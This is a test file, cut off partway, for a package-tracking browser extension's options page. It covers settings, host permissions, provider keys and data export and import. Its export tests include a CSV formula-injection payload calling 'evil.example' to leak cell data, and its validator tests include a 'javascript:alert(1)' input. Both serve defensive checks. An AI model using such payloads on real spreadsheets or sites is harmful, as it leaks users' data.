import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { OptionsPage } from '../../../components/OptionsPage';
import { type OptionsServices, OptionsServicesContext } from '../../../components/options-services';
import { ALL_SITES_ORIGINS } from '../../../utils/background/all-sites';
import { type HandlerReply, handleMessage } from '../../../utils/background/message-handler';
import {
  indexedDbKeyStore,
  PROVIDER_KEYS_CHANGED_KEY,
  type ProviderKeyStore,
} from '../../../utils/keys/provider-key-store';
import type { Message } from '../../../utils/messages';
import { asMessageClient } from '../../../utils/messaging/client';
import { DEFAULT_SETTINGS, type Settings } from '../../../utils/settings';
import { DoorstepDatabase } from '../../../utils/store/db';
import type { PackageRecord } from '../../../utils/store/types';
import { CSV_COLUMNS, IMPORT_CHUNK_RECORDS } from '../../../utils/view/data-transfer';
import { PROVIDER_KEYS_KEY } from '../../../utils/view/providers';
import { parseCsv } from '../csv';
import { translatorFor } from './catalog';
import { flush, must, renderInDom, type TestDom, waitFor } from './dom';
import { threePackages } from './fixtures';
import {
  chooseFile,
  clickCheckbox,
  enterText,
  installFormControls,
  isEnabled,
  settle,
  submit,
} from './form-controls';

const NOW = new Date(2025, 10, 26, 9, 30); // Wed, Nov 26 2025, local time
const en = translatorFor('en');

/** `browser.storage.local` in memory; values are copied in and out like the real one (structured clone). */
function fakeStorage(initial: Record<string, unknown> = {}) {
  const data = new Map<string, unknown>(Object.entries(structuredClone(initial)));
  let failWith: string | undefined;
  return {
    data,
    /** From now on every write fails with this message (a full quota, a closed extension context…). */
    failWrites(message: string) {
      failWith = message;
    },
    async get(key: string): Promise<Record<string, unknown>> {
      return data.has(key) ? { [key]: structuredClone(data.get(key)) } : {};
    },
    async set(items: Record<string, unknown>): Promise<void> {
      if (failWith) throw new Error(failWith);
      for (const [key, value] of Object.entries(items)) data.set(key, structuredClone(value));
    },
    async remove(key: string | string[]): Promise<void> {
      for (const k of [key].flat()) data.delete(k);
    },
  };
}

/**
 * `browser.permissions` with a user who grants or refuses. Like Chrome, `request` fails unless it is called during
 * a user gesture: tests wrap their clicks in `userGesture`, so a request made after an `await` is caught.
 */
function fakePermissions(granted: string[] = []) {
  const origins = new Set(granted);
  const calls: { method: 'request' | 'remove'; origins: string[] }[] = [];
  let inGesture = false;
  let answer: boolean | 'error' = true;
  return {
    origins,
    calls,
    /** `'error'`: the browser fails the request (another prompt is open, the extension is being updated…). */
    userAnswers(grant: boolean | 'error') {
      answer = grant;
    },
    userGesture(action: () => void) {
      inGesture = true;
      try {
        action();
      } finally {
        inGesture = false;
      }
    },
    async request(wanted: string[]): Promise<boolean> {
      if (!inGesture) throw new Error('This function must be called during a user gesture');
      calls.push({ method: 'request', origins: [...wanted] });
      if (answer === 'error') throw new Error('A permission request is already in progress');
      if (answer) for (const o of wanted) origins.add(o);
      return answer;
    },
    async contains(wanted: string[]): Promise<boolean> {
      return wanted.every((o) => origins.has(o));
    },
    async remove(unwanted: string[]): Promise<boolean> {
      calls.push({ method: 'remove', origins: [...unwanted] });
      for (const o of unwanted) origins.delete(o);
      return true;
    },
  };
}

/**
 * The background: every message is recorded and answered by the real message handler over the test database,
 * unless the test overrides the reply for that message type (to make it fail).
 */
function fakeBackground(db: DoorstepDatabase) {
  const sent: Message[] = [];
  const overrides: Partial<Record<Message['type'], HandlerReply>> = {};
  /** `answered`: the worker stops after answering this many messages (later ones get no answer). */
  const limits: { answered?: number } = {};
  const send = async (message: Message): Promise<HandlerReply> => {
    sent.push(structuredClone(message));
    if (limits.answered !== undefined && sent.length > limits.answered)
      return { ok: false, code: 'unavailable', detail: 'the worker stopped' };
    const override = overrides[message.type];
    if (override) return override;
    return handleMessage(
      message,
      {
        db,
        now: () => NOW.getTime(),
        identify: () => null,
        onChange: async () => undefined,
      },
      'extension',
    );
  };
  return { sent, send, overrides, limits };
}

interface Mounted {
  ui: TestDom;
  storage: ReturnType<typeof fakeStorage>;
  keys: ProviderKeyStore;
  permissions: ReturnType<typeof fakePermissions>;
  background: ReturnType<typeof fakeBackground>;
  downloads: { filename: string; text: string; type: string }[];
  opened: string[];
  synced: { cleared: number };
}

describe('options page', () => {
  let db: DoorstepDatabase;
  let mounted: Mounted | undefined;

  function mount(
    options: { stored?: Record<string, unknown>; granted?: string[]; lang?: string; now?: Date } = {},
  ): Mounted {
    installFormControls();
    const storage = fakeStorage(options.stored);
    const permissions = fakePermissions(options.granted);
    const background = fakeBackground(db);
    const keys = indexedDbKeyStore(indexedDB, `options-keys-${crypto.randomUUID()}`);
    const result = {
      storage,
      keys,
      permissions,
      background,
      downloads: [],
      opened: [],
      synced: { cleared: 0 },
    } as Omit<Mounted, 'ui'>;
    const now = options.now ?? NOW;
    const services: OptionsServices = {
      db,
      send: asMessageClient(background.send),
      storage,
      keys,
      clearSynced: async () => {
        result.synced.cleared++;
      },
      permissions,
      download: (filename, text, type) => result.downloads.push({ filename, text, type }),
      openUrl: (url) => result.opened.push(url),
      t: translatorFor(options.lang ?? 'en'),
      locale: options.lang === 'de' ? 'de-DE' : 'en-US',
      now: () => now,
    };
    const ui = renderInDom(
      <OptionsServicesContext.Provider value={services}>
        <OptionsPage />
      </OptionsServicesContext.Provider>,
    );
    mounted = { ...result, ui };
    return mounted;
  }

  /** Mounts and waits until settings are loaded and the live package count is shown. */
  async function ready(options: Parameters<typeof mount>[0] = {}): Promise<Mounted> {
    const m = mount(options);
    await waitFor(() => expect(m.ui.text('[data-testid="count"]')).toMatch(/^\d+$/));
    return m;
  }

  const savedSettings = (m: Mounted) => m.storage.data.get('settings') as Settings | undefined;
  const saveStatus = (m: Mounted) => m.ui.text('.save-status');
  const select = (m: Mounted, label: string) =>
    must(m.ui.$(`select[aria-label="${label}"]`) as HTMLSelectElement | null, `select “${label}”`);
  /** The checkbox whose label starts with this text. */
  const checkbox = (m: Mounted, label: string) =>
    must(
      m.ui
        .$$('label.check')
        .find((l) => l.textContent?.startsWith(label))
        ?.querySelector('input') as HTMLInputElement | null | undefined,
      `checkbox “${label}”`,
    );
  const button = (m: Mounted, text: string, within = '') =>
    must(
      m.ui.$$(`${within} button`).find((b) => b.textContent === text),
      `button “${text}”`,
    );
  const provider = (m: Mounted, id: string) => must(m.ui.$(`li[data-provider="${id}"]`), `provider ${id}`);

  beforeEach(() => {
    db = new DoorstepDatabase(`options-test-${Math.random()}`);
  });
  afterEach(async () => {
    mounted?.ui.cleanup();
    mounted = undefined;
    await db.delete();
  });

  describe('settings', () => {
    it('shows stored settings, completing a partial or corrupted value with defaults', async () => {
      const m = await ready({
        stored: {
          settings: {
            detection: { webmail: 'off', amazon: 'bogus' },
            staleAfterDays: 9,
            autoArchiveDays: -3,
            notifications: { enabled: true, late: false },
            refreshIntervalMinutes: 45,
            sync: false,
          },
        },
      });
      expect(select(m, en('kind_webmail')).value).toBe('off');
      expect(select(m, en('kind_amazon')).value).toBe('auto');
      expect(select(m, en('kind_page')).value).toBe('ask');
      expect((m.ui.$('#stale-days') as HTMLInputElement).value).toBe('9');
      expect((m.ui.$('#auto-archive') as HTMLInputElement).value).toBe('14');
      expect(checkbox(m, 'Show notifications').checked).toBe(true);
      expect(checkbox(m, 'A package is late').checked).toBe(false);
      expect(checkbox(m, 'A package is delivered').checked).toBe(true);
      expect(checkbox(m, 'Sync my packages').checked).toBe(false);
      // A stored interval that is not one of the choices is still offered, so it is shown as it is.
      const interval = m.ui.$('#refresh-interval') as HTMLSelectElement;
      expect(interval.value).toBe('45');
      expect(interval.querySelector('option[value="45"]')?.textContent).toBe('Every 45 minutes');
      expect(interval.querySelector('option[value="120"]')?.textContent).toBe('Every 2 hours');
      expect(saveStatus(m)).toBe('');
    });

    it('saves the detection mode of each page kind at once and says so', async () => {
      const m = await ready();
      const modes = { webmail: 'off', amazon: 'ask', carrier: 'off', page: 'auto' } as const;
      for (const [kind, mode] of Object.entries(modes) as [keyof typeof modes, string][]) {
        m.ui.type(select(m, en(`kind_${kind}`)), mode);
        await waitFor(() => expect(savedSettings(m)?.detection[kind]).toBe(mode));
      }
      expect(savedSettings(m)?.detection).toEqual(modes);
      expect(saveStatus(m)).toBe('Saved.');
      expect(select(m, en('kind_amazon')).value).toBe('ask');
      // Nothing else was touched.
      expect({ ...savedSettings(m), detection: DEFAULT_SETTINGS.detection }).toEqual(DEFAULT_SETTINGS);
    });

    it('adds per-site rules by normalised host name, changes and removes them', async () => {
      const m = await ready();
      const host = m.ui.$('input[aria-label="Site"]') as HTMLInputElement;
      const form = host.closest('form');
      await enterText(host, '  https://Mail.Yahoo.com./d/folders/1?x=2 ');
      m.ui.type(select(m, 'Mode for this site'), 'ask');
      await flush();
      submit(form);
      await waitFor(() => expect(savedSettings(m)?.siteModes).toEqual({ 'mail.yahoo.com': 'ask' }));
      expect(saveStatus(m)).toBe('Saved.');
      await waitFor(() =>
        expect(m.ui.$$('.site-list code').map((c) => c.textContent)).toEqual(['mail.yahoo.com']),
      );
      expect(host.value).toBe('');

      await enterText(host, 'Shop.Example.COM');
      m.ui.type(select(m, 'Mode for this site'), 'off');
      await flush();
      submit(form);
      await waitFor(() =>
        expect(savedSettings(m)?.siteModes).toEqual({ 'mail.yahoo.com': 'ask', 'shop.example.com': 'off' }),
      );
      await waitFor(() =>
        expect(m.ui.$$('.site-list code').map((c) => c.textContent)).toEqual([
          'mail.yahoo.com',
          'shop.example.com',
        ]),
      );

      m.ui.type(select(m, 'shop.example.com'), 'auto');
      await waitFor(() => expect(savedSettings(m)?.siteModes['shop.example.com']).toBe('auto'));

      m.ui.click(must(m.ui.$('button[aria-label="Remove the rule for mail.yahoo.com"]')));
      await waitFor(() => expect(savedSettings(m)?.siteModes).toEqual({ 'shop.example.com': 'auto' }));
      await waitFor(() =>
        expect(m.ui.$$('.site-list code').map((c) => c.textContent)).toEqual(['shop.example.com']),
      );
      m.ui.click(must(m.ui.$('button[aria-label="Remove the rule for shop.example.com"]')));
      await waitFor(() => expect(m.ui.text('.site-list')).toBe(''));
      expect(savedSettings(m)?.siteModes).toEqual({});
      expect(m.ui.$$('.card p.muted').some((p) => p.textContent === en('siteOverridesEmpty'))).toBe(true);
    });

    it('refuses what is not a site name with a clear error and saves nothing', async () => {
      const m = await ready();
      const host = m.ui.$('input[aria-label="Site"]') as HTMLInputElement;
      for (const bad of [
        'localhost',
        'not a host',
        'javascript:alert(1)',
        'ftp://files.example.com',
        '-bad-.com',
      ]) {
        await enterText(host, bad);
        submit(host.closest('form'));
        await waitFor(() =>
          expect(m.ui.text('#site-error')).toBe(
            `“${bad}” is not a site name (for example mail.example.com).`,
          ),
        );
        expect(m.ui.$('#site-error')?.getAttribute('role')).toBe('alert');
        expect(host.getAttribute('aria-invalid')).toBe('true');
        expect(host.value).toBe(bad);
      }
      await flush();
      expect(m.storage.data.has('settings')).toBe(false);
      expect(saveStatus(m)).toBe('');
      // A valid name afterwards clears the error.
      await enterText(host, 'outlook.live.com');
      submit(host.closest('form'));
      await waitFor(() => expect(savedSettings(m)?.siteModes).toEqual({ 'outlook.live.com': 'off' }));
      await waitFor(() => expect(m.ui.text('#site-error')).toBe(''));
      expect(host.hasAttribute('aria-invalid')).toBe(false);
    });

    it('saves notification switches; the kinds can be changed only while notifications are on', async () => {
      const m = await ready();
      const delivered = checkbox(m, 'A package is delivered');
      expect(isEnabled(delivered)).toBe(false);
      expect(clickCheckbox(delivered)).toBe(false);

      clickCheckbox(checkbox(m, 'Show notifications'));
      await waitFor(() => expect(savedSettings(m)?.notifications.enabled).toBe(true));
      expect(saveStatus(m)).toBe('Saved.');
      await waitFor(() => expect(isEnabled(delivered)).toBe(true));

      clickCheckbox(delivered);
      await waitFor(() => expect(savedSettings(m)?.notifications.delivered).toBe(false));
      clickCheckbox(checkbox(m, 'A package is out for delivery'));
      await waitFor(() => expect(savedSettings(m)?.notifications.outForDelivery).toBe(false));
      expect(savedSettings(m)?.notifications).toEqual({
        enabled: true,
        outForDelivery: false,
        delivered: false,
        problem: true,
        late: true,
      });
      expect(delivered.checked).toBe(false);

      clickCheckbox(checkbox(m, 'Show notifications'));
      await waitFor(() => expect(savedSettings(m)?.notifications.enabled).toBe(false));
      // Turning them off keeps the choice of kinds for next time.
      expect(savedSettings(m)?.notifications.delivered).toBe(false);
      await waitFor(() => expect(isEnabled(delivered)).toBe(false));
    });

    it('saves numbers in range and explains the range otherwise, without saving', async () => {
      const m = await ready();
      const archive = m.ui.$('#auto-archive') as HTMLInputElement;
      const archiveHelp = () => m.ui.text('#auto-archive-help');
      await enterText(archive, '30');
      await waitFor(() => expect(savedSettings(m)?.autoArchiveDays).toBe(30));
      // The field takes the saved value back (an effect) before the next thing is typed, as it would for a person.
      await settle();
      expect(saveStatus(m)).toBe('Saved.');
      expect(archiveHelp()).toBe(en('autoArchiveHelp'));

      for (const bad of ['400', '-1', '2.5', 'abc', '', '   ']) {
        await enterText(archive, bad);
        await waitFor(() =>
          expect(archiveHelp(), `for “${bad}”`).toBe('Enter a whole number from 0 to 365.'),
        );
        expect(archive.getAttribute('aria-invalid')).toBe('true');
        expect(m.ui.$('#auto-archive-help')?.className).toBe('field-error');
        expect(savedSettings(m)?.autoArchiveDays).toBe(30);
      }

      // 0 is valid for auto-archive (keep delivered packages) but not for the stale threshold.
      await enterText(archive, '0');
      await waitFor(() => expect(savedSettings(m)?.autoArchiveDays).toBe(0));
      await settle();
      await waitFor(() => expect(archiveHelp()).toBe(en('autoArchiveHelp')));
      expect(archive.hasAttribute('aria-invalid')).toBe(false);

      const stale = m.ui.$('#stale-days') as HTMLInputElement;
      await enterText(stale, '0');
      await waitFor(() => expect(m.ui.text('#stale-days-help')).toBe('Enter a whole number from 1 to 60.'));
      await enterText(stale, '61');
      await flush();
      expect(m.ui.text('#stale-days-help')).toBe('Enter a whole number from 1 to 60.');
      expect(savedSettings(m)?.staleAfterDays).toBe(DEFAULT_SETTINGS.staleAfterDays);
      await enterText(stale, '60');
      await waitFor(() => expect(savedSettings(m)?.staleAfterDays).toBe(60));
      await waitFor(() => expect(m.ui.text('#stale-days-help')).toBe(en('staleHelp')));
    });

    it('saves the refresh interval, Amazon session refresh and sync switches', async () => {
      const m = await ready();
      m.ui.type('#refresh-interval', '30');
      await waitFor(() => expect(savedSettings(m)?.refreshIntervalMinutes).toBe(30));
      expect(m.ui.$$('#refresh-interval option').map((o) => o.textContent)).toEqual([
        'Every 15 minutes',
        'Every 30 minutes',
        'Every hour',
        'Every 2 hours',
        'Every 6 hours',
        'Every 12 hours',
        'Every 24 hours',
      ]);
      clickCheckbox(checkbox(m, en('amazonSessionLabel')));
      await waitFor(() => expect(savedSettings(m)?.amazonSessionRefresh).toBe(false));
      clickCheckbox(checkbox(m, en('syncLabel')));
      await waitFor(() => expect(savedSettings(m)?.sync).toBe(false));
      expect(saveStatus(m)).toBe('Saved.');
    });

    it('says where packages are copied: only in this browser until sync is turned on', async () => {
      const m = await ready();
      const privacy = () => m.ui.container.textContent ?? '';
      expect(privacy()).toContain(en('dataPrivacy'));
      expect(privacy()).not.toContain(en('dataPrivacySynced'));
      clickCheckbox(checkbox(m, en('syncLabel')));
      await waitFor(() => expect(savedSettings(m)?.sync).toBe(true));
      await waitFor(() => expect(privacy()).toContain(en('dataPrivacySynced')));
      expect(privacy()).not.toContain(en('dataPrivacy'));
    });

    it('says so when a setting could not be saved', async () => {
      const m = await ready();
      m.storage.failWrites('QUOTA_BYTES quota exceeded');
      m.ui.type(select(m, en('kind_page')), 'off');
      await waitFor(() => expect(saveStatus(m)).toBe('Could not do that: Error: QUOTA_BYTES quota exceeded'));
      expect(m.storage.data.has('settings')).toBe(false);
    });
  });

  describe('“Look for parcels on every site I visit”', () => {
    const allSites = (m: Mounted) => m.ui.$('#all-sites') as HTMLInputElement;

    it('reflects whether the browser granted access to every site', async () => {
      const off = await ready();
      expect(off.ui.text('label.all-sites')).toContain('Look for parcels on every site I visit');
      await waitFor(() => expect(isEnabled(allSites(off))).toBe(true));
      expect(allSites(off).checked).toBe(false);
      off.ui.cleanup();

      const on = await ready({ granted: ALL_SITES_ORIGINS });
      await waitFor(() => expect(allSites(on).checked).toBe(true));
      expect(isEnabled(allSites(on))).toBe(true);
    });

    it('asks for the permission from the click when checked and gives it back when unchecked', async () => {
      const m = await ready();
      await waitFor(() => expect(isEnabled(allSites(m))).toBe(true));
      m.permissions.userGesture(() => clickCheckbox(allSites(m)));
      await waitFor(() => expect(m.permissions.origins.has('*://*/*')).toBe(true));
      expect(m.permissions.calls).toEqual([{ method: 'request', origins: ['*://*/*'] }]);
      await flush();
      expect(allSites(m).checked).toBe(true);

      m.permissions.userGesture(() => clickCheckbox(allSites(m)));
      await waitFor(() => expect(m.permissions.origins.size).toBe(0));
      expect(m.permissions.calls.at(-1)).toEqual({ method: 'remove', origins: ['*://*/*'] });
      await flush();
      expect(allSites(m).checked).toBe(false);
      // It is a permission, not a setting.
      expect(m.storage.data.has('settings')).toBe(false);
    });

    it('stays unchecked when the user refuses the permission', async () => {
      const m = await ready();
      await waitFor(() => expect(isEnabled(allSites(m))).toBe(true));
      m.permissions.userAnswers(false);
      m.permissions.userGesture(() => clickCheckbox(allSites(m)));
      await waitFor(() => expect(m.permissions.calls).toHaveLength(1));
      await flush();
      expect(allSites(m).checked).toBe(false);
      expect(m.permissions.origins.size).toBe(0);
      // A request the browser fails is a refusal too (and no unhandled rejection).
      m.permissions.userAnswers('error');
      m.permissions.userGesture(() => clickCheckbox(allSites(m)));
      await waitFor(() => expect(m.permissions.calls).toHaveLength(2));
      await flush();
      expect(allSites(m).checked).toBe(false);
      // Asking again works once the user agrees.
      m.permissions.userAnswers(true);
      m.permissions.userGesture(() => clickCheckbox(allSites(m)));
      await waitFor(() => expect(allSites(m).checked).toBe(true));
      expect(m.permissions.calls).toHaveLength(3);
    });
  });

  describe('status providers', () => {
    it('enabling a provider asks, from the click, for exactly its host, then saves it', async () => {
      const m = await ready();
      const row = provider(m, '17track');
      expect(row.querySelector('form')).toBeNull();
      m.permissions.userGesture(() => clickCheckbox(must(row.querySelector('input[type="checkbox"]'))));
      await waitFor(() => expect(savedSettings(m)?.providers).toEqual(['17track']));
      expect(m.permissions.calls).toEqual([{ method: 'request', origins: ['https://api.17track.net/*'] }]);
      expect(saveStatus(m)).toBe('Saved.');
      await waitFor(() => expect(row.querySelector('form.provider-keys')).not.toBeNull());
      expect(row.querySelector('.field-error')?.textContent).toBe('Add your 17TRACK key to use it.');
      expect(row.querySelector('input#17track-apiKey')?.getAttribute('placeholder')).toBe('Not set');

      // Enabling a second one keeps the first, in the order chosen.
      m.permissions.userGesture(() =>
        clickCheckbox(must(provider(m, 'dhl').querySelector('input[type="checkbox"]'))),
      );
      await waitFor(() => expect(savedSettings(m)?.providers).toEqual(['17track', 'dhl']));
      expect(m.permissions.calls.at(-1)).toEqual({
        method: 'request',
        origins: ['https://api-eu.dhl.com/*'],
      });
    });

    it('stores keys in the key store (never storage.local), shows them masked and forgets them', async () => {
      const m = await ready({
        stored: { settings: { providers: ['17track'] } },
        granted: ['https://api.17track.net/*'],
      });
      const row = provider(m, '17track');
      await waitFor(() => expect(row.querySelector('input#17track-apiKey')).not.toBeNull());
      const input = row.querySelector('input#17track-apiKey') as HTMLInputElement;
      expect(input.getAttribute('type')).toBe('password');
      await enterText(input, '  sk_live_4f0c9b2e7a3f9a  ');
      submit(row.querySelector('form'));
      await waitFor(async () =>
        expect(await m.keys.load()).toEqual({ '17track': { apiKey: 'sk_live_4f0c9b2e7a3f9a' } }),
      );
      await waitFor(() => expect(row.querySelector('[role="status"]')?.textContent).toBe(en('keySaved')));
      // storage.local (readable by our content scripts in Firefox) holds only the time stamp of the change.
      expect(JSON.stringify([...m.storage.data.entries()])).not.toContain('sk_live');
      expect(m.storage.data.get(PROVIDER_KEYS_CHANGED_KEY)).toEqual(expect.any(Number));
      expect(input.value).toBe('');
      expect(input.getAttribute('placeholder')).toBe('••••••3f9a');
      expect(m.ui.container.innerHTML).not.toContain('sk_live');
      // Keys never go into the settings (which are synced and exported).
      expect(JSON.stringify(savedSettings(m) ?? {})).not.toContain('sk_live');
      expect(row.querySelector('.field-error')).toBeNull();

      m.ui.click(button(m, 'Forget key', 'li[data-provider="17track"]'));
      await waitFor(async () => expect(await m.keys.load()).toEqual({}));
      await waitFor(() => expect(row.querySelector('[role="status"]')?.textContent).toBe('Key forgotten.'));
      expect(input.getAttribute('placeholder')).toBe('Not set');
      expect(row.querySelector('.field-error')?.textContent).toBe('Add your 17TRACK key to use it.');
    });

    it('moves keys an older version left in storage.local, shows them masked and needs every field of a two-part credential', async () => {
      const m = await ready({
        stored: {
          settings: { providers: ['usps'] },
          [PROVIDER_KEYS_KEY]: {
            dhl: { apiKey: 'dhl-secret-key-0042' },
            usps: { clientId: 'U5PS-CLIENT-7781' },
          },
        },
        granted: ['https://apis.usps.com/*'],
      });
      const row = provider(m, 'usps');
      await waitFor(() =>
        expect(row.querySelector('#usps-clientId')?.getAttribute('placeholder')).toBe('••••••7781'),
      );
      expect(m.ui.container.innerHTML).not.toContain('U5PS-CLIENT');
      expect(m.ui.container.innerHTML).not.toContain('dhl-secret');
      expect(m.storage.data.has(PROVIDER_KEYS_KEY)).toBe(false);
      // A secret of eight characters or fewer shows no tail at all.
      await enterText(m.ui.$('#usps-clientSecret'), 'short');
      submit(row.querySelector('form'));
      await waitFor(() =>
        expect(row.querySelector('#usps-clientSecret')?.getAttribute('placeholder')).toBe('••••••'),
      );
      expect(await m.keys.load()).toEqual({
        dhl: { apiKey: 'dhl-secret-key-0042' },
        usps: { clientId: 'U5PS-CLIENT-7781', clientSecret: 'short' },
      });

      m.ui.click(button(m, 'Forget key', 'li[data-provider="usps"]'));
      await waitFor(async () =>
        expect(await m.keys.load()).toEqual({ dhl: { apiKey: 'dhl-secret-key-0042' } }),
      );
      await enterText(m.ui.$('#usps-clientId'), 'only-the-id');
      submit(row.querySelector('form'));
      await waitFor(() => expect(row.querySelector('[role="alert"]')?.textContent).toBe(en('keyIncomplete')));
      expect(await m.keys.load()).toEqual({ dhl: { apiKey: 'dhl-secret-key-0042' } });
    });

    it('leaves a provider off when the user refuses access to its host', async () => {
      const m = await ready();
      m.permissions.userAnswers(false);
      const row = provider(m, 'ups');
      const box = must(row.querySelector('input[type="checkbox"]')) as HTMLInputElement;
      m.permissions.userGesture(() => clickCheckbox(box));
      await waitFor(() =>
        expect(row.querySelector('[role="alert"]')?.textContent).toBe(
          'Doorstep needs access to the UPS server to use it. Access was not granted.',
        ),
      );
      expect(m.permissions.calls).toEqual([
        { method: 'request', origins: ['https://onlinetools.ups.com/*'] },
      ]);
      expect(box.checked).toBe(false);
      expect(row.querySelector('form')).toBeNull();
      expect(m.storage.data.has('settings')).toBe(false);
    });

    it('turning a provider off saves it and gives the host permission back', async () => {
      const m = await ready({
        stored: { settings: { providers: ['fedex', 'aftership'] } },
        granted: ['https://apis.fedex.com/*', 'https://api.aftership.com/*'],
      });
      const row = provider(m, 'fedex');
      await waitFor(() => expect(row.querySelector('form')).not.toBeNull());
      clickCheckbox(must(row.querySelector('input[type="checkbox"]')) as HTMLInputElement);
      await waitFor(() => expect(savedSettings(m)?.providers).toEqual(['aftership']));
      await waitFor(() => expect([...m.permissions.origins]).toEqual(['https://api.aftership.com/*']));
      await waitFor(() => expect(row.querySelector('form')).toBeNull());
    });

    it('says when an enabled provider lost its host permission, and opens the sign-up page', async () => {
      const m = await ready({ stored: { settings: { providers: ['ship24'] } } });
      const row = provider(m, 'ship24');
      await waitFor(() =>
        expect(row.querySelector('form .field-error:last-child')?.textContent).toBe(
          'Access to https://api.ship24.com is not granted: turn the provider off and on again to allow it.',
        ),
      );
      m.ui.click(button(m, 'Get a key', 'li[data-provider="ship24"]'));
      expect(m.opened).toEqual(['https://www.ship24.com/']);
    });
  });

  describe('your data', () => {
    const hostileTitle = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const packages = (): PackageRecord[] => {
      const [headphones, shoes, kindle] = threePackages(NOW);
      return [
        { ...must(headphones), itemTitles: [hostileTitle], label: '@SUM(1+1)' },
        must(shoes),
        { ...must(kindle), note: '+49 30 1234, call first' },
      ];
    };

    it('exports a JSON backup with every record, named by date', async () => {
      await db.packages.bulkPut(packages());
      const m = await ready();
      expect(m.ui.text('[data-testid="count"]')).toBe('3');
      m.ui.click(button(m, 'Export JSON backup'));
      await waitFor(() => expect(m.downloads).toHaveLength(1));
      const file = must(m.downloads[0]);
      expect(file.filename).toBe('doorstep-2025-11-26.json');
      expect(file.type).toBe('application/json');
      const parsed = JSON.parse(file.text);
      expect(parsed.format).toBe('doorstep-export');
      expect(parsed.exportedAt).toBe(NOW.toISOString());
      const byId = (a: PackageRecord, b: PackageRecord) => a.id.localeCompare(b.id);
      // Lossless: exactly what is stored, every event, hostile text kept verbatim (JSON is not run by anything).
      expect([...parsed.packages].sort(byId)).toEqual((await db.packages.toArray()).sort(byId));
      const headphones = parsed.packages.find((p: PackageRecord) => p.id === 'pkg-headphones');
      expect(headphones.events).toHaveLength(3);
      expect(headphones.itemTitles).toEqual([hostileTitle]);
      await waitFor(() =>
        expect(m.ui.$$('[role="status"]').some((s) => s.textContent === 'Exported 3 packages.')).toBe(true),
      );
    });

    it('exports CSV with one row per event, and hostile text cannot run as a formula', async () => {
      await db.packages.bulkPut(packages());
      const m = await ready();
      m.ui.click(button(m, 'Export CSV (every event)'));
      await waitFor(() => expect(m.downloads).toHaveLength(1));
      const file = must(m.downloads[0]);
      expect(file.filename).toBe('doorstep-2025-11-26.csv');
      expect(file.type).toBe('text/csv;charset=utf-8');
      const rows = parseCsv(file.text);
      expect(rows[0]).toEqual([...CSV_COLUMNS]);
      const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
      // 3 events for the headphones, 2 for the shoes, one row for the Kindle which has none.
      expect(rows).toHaveLength(1 + 3 + 2 + 1);
      const headphones = rows.filter((r) => r[column('package_id')] === 'pkg-headphones');
      expect(headphones.map((r) => r[column('event_description')])).toEqual([
        'Shipper created a label',
        'Departed from facility',
        'Out for delivery',
      ]);
      expect(headphones[0]?.[column('items')]).toBe(`'${hostileTitle}`);
      expect(headphones[0]?.[column('label')]).toBe("'@SUM(1+1)");
      expect(rows.find((r) => r[column('package_id')] === 'pkg-kindle')?.[column('note')]).toBe(
        "'+49 30 1234, call first",
      );
      expect(file.text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
      for (const row of rows) {
        expect(row).toHaveLength(CSV_COLUMNS.length);
        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    });

    it('names export files by the local date, not the UTC one', async () => {
      const previous = process.env.TZ;
      process.env.TZ = 'Pacific/Auckland';
      try {
        // 01:30 on Nov 27 in Auckland is still Nov 26 in UTC.
        const m = await ready({ now: new Date('2025-11-26T12:30:00Z') });
        m.ui.click(button(m, 'Export JSON backup'));
        await waitFor(() => expect(m.downloads).toHaveLength(1));
        expect(m.downloads[0]?.filename).toBe('doorstep-2025-11-27.json');
      } finally {
        if (previous === undefined) delete process.env.TZ;
        else process.env.TZ = previous;
      }
    });

    it('imports a file: sends the valid records and reports created, updated and rejected with reasons', async () => {
      const [headphones, shoes, kindle] = threePackages(NOW);
      await db.packages.put(must(headphones));
      const m = await ready();
      expect(m.ui.text('[data-testid="count"]')).toBe('1');
      const laterEvent = {
        at: NOW.getTime(),
        status: 'delivered' as const,
        description: 'Delivered, front porch',
      };
      const updatedHeadphones = { ...must(headphones), events: [...must(headphones).events, laterEvent] };
      const noNumber = (id: string) => ({ ...must(shoes), id, number: undefined, carrier: undefined });
      const file = {
        format: 'doorstep-export',
        version: 1,
        exportedAt: NOW.toISOString(),
        packages: [
          updatedHeadphones,
          shoes,
          { ...must(kindle), status: 'teleported' },
          kindle,
          noNumber('orphan-1'),
          noNumber('orphan-2'),
        ],
      };
      // What the page stages for the worker (the chunk is gone once the worker has taken it).
      const staged: unknown[][] = [];
      db.importChunks.hook('creating', (_key, chunk) => {
        staged.push(chunk.records);
      });
      const input = must(m.ui.$('input[type="file"]')) as HTMLInputElement;
      chooseFile(
        input,
        new File([JSON.stringify(file)], 'doorstep-2025-11-01.json', { type: 'application/json' }),
      );
      await waitFor(() => expect(m.ui.$('[data-testid="import-report"]')).not.toBeNull());
      await waitFor(() => expect(m.ui.text('[data-testid="import-report"] p')).not.toBe(''));

      // One chunk, staged in the database; only its id travels in the message.
      const sent = m.background.sent.filter((msg) => msg.type === 'import-staged');
      expect(sent).toEqual([{ type: 'import-staged', chunk: expect.any(String) }]);
      expect(staged).toHaveLength(1);
      expect(await db.importChunks.count()).toBe(0);
      const records = staged[0] as PackageRecord[];
      // Every record is staged as read, once: the background validates them (one validation, at its boundary).
      expect(records.map((r) => r.id)).toEqual([
        'pkg-headphones',
        'pkg-shoes',
        'pkg-kindle',
        'pkg-kindle',
        'orphan-1',
        'orphan-2',
      ]);
      expect(records[0]?.events).toHaveLength(4);

      // The store created 2, updated 1 and refused the unknown status and the 2 records with neither a number
      // nor an order id, each named by its place in the file.
      expect(m.ui.text('[data-testid="import-report"] p')).toBe(
        'Imported: 2 new, 1 updated, 0 unchanged, 3 rejected.',
      );
      const reasons = m.ui.$$('[data-testid="import-report"] li').map((li) => li.textContent);
      expect(reasons).toHaveLength(3);
      expect(reasons[0]).toBe('Record 3: status has a value Doorstep does not know');
      expect(reasons[1]).toBe('Record 5: needs a tracking number or an order id');
      expect(reasons[2]).toBe('Record 6: needs a tracking number or an order id');
      await waitFor(() => expect(m.ui.text('[data-testid="count"]')).toBe('3'));
      expect((await db.packages.get('pkg-headphones'))?.events).toHaveLength(4);
      expect(input.value).toBe('');

      // What is stored now, imported again (an export re-imported): the report says all of it is unchanged.
